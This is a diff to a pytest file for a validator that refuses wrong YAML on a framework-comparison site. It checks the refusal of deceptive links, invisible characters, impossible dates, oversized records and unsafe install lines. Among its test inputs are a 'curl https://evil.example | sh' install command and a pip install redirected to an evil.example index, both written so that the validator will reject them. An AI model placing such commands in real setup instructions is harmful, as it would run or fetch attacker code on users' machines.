@@ -1,15 +1,19 @@
 """Wrong YAML is refused with its place and the remedy, all mistakes at once; right YAML loads."""
 
+import json
+import re
 import shutil
 import subprocess
 import sys
+from datetime import date
 from pathlib import Path
 
 import pytest
 
+from comparison import urls
 from comparison.load import distributions, load
 from comparison.mistakes import Invalid, annotation, did_you_mean
-from tests.example import GOOD
+from tests.example import EXCHANGE, GOOD
 
 ROW = "sections.requests.criteria.routing"
 
@@ -67,6 +71,115 @@ def test_a_published_row_may_be_renamed_or_removed(example: Path, old: str, new:
 
 
 WRONG = {
+    "address in an answer that seems to lead elsewhere": (
+        "answer: A table",
+        'answer: "[docs](https://right.example@evil.example/)"',
+        [
+            "34:21: ROW.answers.right.answer: the link to https://right.example@evil.example/"
+            " must name a host behind https://, without user and password"
+        ],
+    ),
+    "links in an answer that are none": (
+        "answer: A table",
+        'answer: "[a](http://b.example/) [](https://b.example/) [c]() [d](https://b.example/ e)"',
+        [
+            "34:21: ROW.answers.right.answer: the link to http://b.example/ must begin with"
+            " https://; the link to https://b.example/ shows no text; write [text](https://…); has"
+            " a link that leads nowhere; write [text](https://…); has a link that is none: write"
+            " [text](https://…) without spaces and line breaks in the address; if no link is"
+            " meant, put it between backticks"
+        ],
+    ),
+    "text of a link that is another address": (
+        "answer: A table",
+        'answer: "[docs.python.org](https://evil.example/)"',
+        [
+            "34:21: ROW.answers.right.answer: the text of the link to https://evil.example/ is"
+            " another address; write the same, or words"
+        ],
+    ),
+    "title of joiners": (
+        "title: Routing",
+        'title: "\u200d\u200c"',
+        ["24:16: ROW.title: shows nothing; write a text"],
+    ),
+    "title of a mark alone": (
+        "title: Routing",
+        'title: "\u0301"',
+        ["24:16: ROW.title: shows nothing; write a text"],
+    ),
+    "code that shows nothing": (
+        "answer: A table",
+        'answer: "see ` `"',
+        [
+            "34:21: ROW.answers.right.answer: has code that shows nothing; write the code, or"
+            " remove the backticks"
+        ],
+    ),
+    "day that will be": (
+        'version: "3.10", date: 2026-11-21',
+        'version: "3.10", date: 2099-01-01',
+        [
+            "14:38: frameworks.right.checked.date: is in the future, today is"
+            f" {date.today()}; write the day on which it was"
+        ],
+    ),
+    "day before all frameworks": (
+        'version: "3.10", date: 2026-11-21',
+        'version: "3.10", date: 0001-01-01',
+        [
+            "14:38: frameworks.right.checked.date: is before 2000-01-01; write the day on which it"
+            " was"
+        ],
+    ),
+    "releases that do not follow": (
+        "answer: A table",
+        'answer: A table\n            since: "999.0"\n            until: "2.0"\n'
+        '            checked: {version: "4.0", date: 2026-11-20}',
+        [
+            "35:13: ROW.answers.right.since: is newer than the release that is described, 4.0",
+            "36:13: ROW.answers.right.until: must be newer than since, 999.0",
+            "37:13: ROW.answers.right.checked: is before the column's, 2026-11-21; remove it",
+            "37:23: ROW.answers.right.checked.version: is newer than the column's, 3.10; read the"
+            " column again",
+        ],
+    ),
+    "two frameworks of one name": (
+        "name: Right",
+        "name: left",
+        ["11:5: frameworks.right.name: left has the same name; tell them apart"],
+    ),
+    "row called like a part of the page": (
+        "      routing:",
+        "      removed:",
+        [
+            "23:7: sections.requests.criteria.removed: the page uses this word for a part of its"
+            " own; choose another key"
+        ],
+    ),
+    "install of another package": (
+        "install: pip install right",
+        "install: pip install rihgt gunicorn",
+        ["15:5: frameworks.right.install: must name right, too"],
+    ),
+    "install that runs more": (
+        "install: pip install right",
+        "install: curl https://evil.example | sh",
+        ["15:14: frameworks.right.install: must begin with pip install and name what it installs"],
+    ),
+    "install from elsewhere": (
+        "install: pip install right",
+        "install: pip install right --index-url https://evil.example",
+        [
+            "15:14: frameworks.right.install: may only name packages, such as quart or"
+            ' "quart[dotenv]", not --index-url'
+        ],
+    ),
+    "more sources than anybody reads": (
+        "              - https://right.example/#routes",
+        "\n".join(f"              - https://right.example/#routes-{n}" for n in range(21)),
+        ["36:15: ROW.answers.right.sources: has 21 entries, the page bears 20; remove some"],
+    ),
     "key of a row under removed": (
         "    criteria:",
         "    removed: {routing: It was too long.}\n    criteria:",
@@ -714,6 +827,10 @@ WRONG = {
             '32:11: ROW.answers.right: there is no framework right; did you mean "../right"?',
             "38:3: tasks.hello: snippets/hello/right/ belongs to no framework; did you mean "
             '"../right"?',
+            "data/facts.json:1:1: frameworks.right: there is no framework right; did you mean"
+            ' "../right"?; restore the file, or write it: make record',
+            "snippets/hello/exchanges.json:1:1: tests: there is no framework right; did you mean"
+            ' "../right"?; restore the file, or write it: make record',
         ],
     ),
     "not applicable without a note": (
@@ -812,6 +929,38 @@ WRONG = {
         ],
     ),
 }
+
+
+HOST = "must lead to a public host by its name in plain letters, such as docs.python.org"
+ADDRESSES = {
+    "https://127.0.0.1/#x": HOST,
+    "https://2130706433/#x": HOST,
+    "https://localhost/#x": HOST,
+    "https://a.internal:80/#x": HOST,
+    "https://xn--80ak6aa92e.com/#x": HOST,
+    "https://a.example./#x": HOST,
+    "https://-/#x": "must name a host behind https://, without user and password",
+    "https://a.example:99999/#x": "has a port that does not exist; remove it",
+    "https://a.example:0/#x": "has a port that does not exist; remove it",
+    "https://a.example/#%": "has a character that no address has; percent-encode it",
+    "https://a.example/o/r/blob/1.0/../main/x": (
+        "must name its page without . and .. as steps of the way"
+    ),
+    "https://a.example/#:~:text=": f"must {urls.PROVES}",
+    "https://a.example/#-": f"must {urls.PROVES}",
+    "https://a.example/o/r/blob/develop/x": f"must {urls.PROVES}",
+    "https://a.example/o/r/blob/Main/x": f"must {urls.PROVES}",
+    "https://a.example/o/r/blob/refs/heads/main/x": f"must {urls.PROVES}",
+    "https://a.example/o/r/blob/3.1.x/x": f"must {urls.PROVES}",
+    "https://a.example/o/r/blob/m%61in/x": f"must {urls.PROVES}",
+}
+
+
+@pytest.mark.parametrize(("address", "said"), ADDRESSES.items())
+def test_an_address_that_leads_nowhere_is_refused(example: Path, address: str, said: str) -> None:
+    wrong = GOOD.replace("- https://right.example/#routes", f'- "{address}"')
+    assert mistakes(example, wrong) == [f"36:17: ROW.answers.right.sources[0]: {said}"]
+    assert not re.search(urls.DEEP_PATTERN, address)  # as an editor says, too
 
 
 @pytest.mark.parametrize(("old", "new", "said"), WRONG.values(), ids=WRONG)
@@ -926,8 +1075,9 @@ def test_what_an_exchange_hides_is_refused(example: Path) -> None:
     exchanges = example / "snippets/hello/exchanges.json"
     exchanges.write_text(exchanges.read_text().replace("It greets", "It \\u2067greets", 1))
     assert mistakes(example, GOOD) == [
-        "38:3: tasks.hello: snippets/hello/exchanges.json: exchange 1 holds character U+2067;"
-        " remove it from where it is sent or said",
+        "snippets/hello/exchanges.json:1:165: exchanges[0].shows.left: character U+2067 is not"
+        " allowed, not as an escape either; restore the file, or write it again: make record"
+        " TASK=hello",
     ]
 
 
@@ -1171,3 +1321,52 @@ def test_command_line_prints_the_mistakes_of_every_file_and_fails(project: Path)
     assert 'distribution: must be text; quote it: "3.10"' in done.stderr
     assert 'sais: unknown key; did you mean "says"?' in done.stderr
     assert "Traceback" not in done.stderr
+
+
+@pytest.mark.parametrize(
+    ("part", "value", "said"),
+    [
+        ("shows", {"left": "", "right": "x"}, ".shows.left: is blank; give the test a docstring"),
+        ("responses", {}, ".responses: must name the same frameworks as tests"),
+        ("tests", [], ".tests: must be an object"),
+        ("request", None, ".request: must be an object"),
+        ("colour", 1, ".colour: unknown key"),
+    ],
+)
+def test_exchanges_that_nobody_recorded_are_refused(
+    example: Path, part: str, value: object, said: str
+) -> None:
+    file = example / "snippets/hello/exchanges.json"
+    file.write_text(json.dumps({"exchanges": [EXCHANGE | {part: value}]}))
+    first, *_ = mistakes(example, GOOD)
+    assert first.startswith("snippets/hello/exchanges.json:1:")
+    assert f": exchanges[0]{said}" in first
+    assert first.endswith("; restore the file, or write it again: make record")
+
+
+@pytest.mark.parametrize(
+    ("content", "said"),
+    {
+        "[]": "1:1: must be an object",
+        '{"exchanges": 3}': "1:15: exchanges: must be a valid array",
+        '{"exchanges": [null]}': "1:16: exchanges[0]: must be an object",
+        "[" * 100_000: "1:1: is nested more than 20 levels deep",
+        '{"exchanges": [], "exchanges": []}': "1:32: exchanges: the same key stands here twice",
+    }.items(),
+)
+def test_a_broken_record_is_named(example: Path, content: str, said: str) -> None:
+    (example / "snippets/hello/exchanges.json").write_text(content)
+    assert mistakes(example, GOOD)[0].startswith(f"snippets/hello/exchanges.json:{said}")
+
+
+def test_facts_that_are_missing_or_of_another_release_are_refused(example: Path) -> None:
+    facts = example / "data/facts.json"
+    facts.write_text('{"read": "2026-11-20", "frameworks": {"right": {"version": "4.0"}}}')
+    assert mistakes(example, GOOD) == [
+        "14:15: frameworks.right.checked.version: is not the release that is installed and tested;"
+        ' write "4.0", or pin this one (make lock, then make record)'
+    ]
+    facts.unlink()
+    assert mistakes(example, GOOD) == [
+        "data/facts.json:1:1: is missing; restore it, or write it: make record"
+    ]
